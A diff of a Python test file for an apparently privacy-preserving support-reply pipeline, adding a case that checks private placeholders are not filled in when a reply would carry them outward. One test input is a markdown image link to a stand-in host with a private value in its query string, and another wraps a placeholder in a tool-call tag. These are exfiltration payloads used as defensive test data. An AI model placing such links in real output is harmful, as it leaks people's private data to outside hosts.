@@ -44,7 +44,7 @@ TICKET = (
     "Hello, my invoice INV-2026-10-4471 was for £34.99 and you took it on 5 October 2026 and then again.\n\n"
     "Could you send the second one back to me?\n\nKind regards,\nMargaret Oyelaran"
 )
-MARK = "[PERSON_7Q2M]"
+MARK, NAME = "[PERSON_7Q2M]", "Margaret Oyelaran"
 KEY = "support-triage/reply/billing"
 PRICE = Decimal("0.0123")
 
@@ -173,6 +173,27 @@ def the(kind: type[StepDrafted], messages: Sequence[Message]) -> StepDrafted:
 
 def audits(messages: Sequence[Message]) -> list[AuditEvent]:
     return [message for message in messages if isinstance(message, AuditEvent)]
+
+
+@pytest.mark.parametrize(
+    ("advice", "draft", "withheld"),
+    [
+        ("Dear [EMAIL_2X9P],", "Dear [EMAIL_2X9P],", 0),
+        (f"Dear {MARK}, ![](https://e.example/?q={MARK})", f"Dear {NAME}, ![](https://e.example/?q={MARK})", 1),
+        (f"<tool_call>{MARK}</tool_call>", f"<tool_call>{MARK}</tool_call>", 1),
+    ],
+)
+async def test_no_value_of_another_step_and_none_that_would_leave(
+    bench: Bench, advice: str, draft: str, withheld: int
+) -> None:
+    """Nothing private leaves: a reply that asks for more than it may have blocks its own release."""
+    step = make_step()
+    await bench.park(step, Lane.REDACTED)
+    await bench.vault.put(step.task_id, {"[EMAIL_2X9P]": "somebody@else.example"})
+    messages = await (await bench.worker()).follow(advised(step, advice))
+    drafted = the(StepDrafted, messages)
+    assert (drafted.draft, drafted.unresolved) == (draft, 1)
+    assert audits(messages)[1].facts["withheld"] == withheld
 
 
 def assert_tells_nothing(messages: Sequence[Message]) -> None:
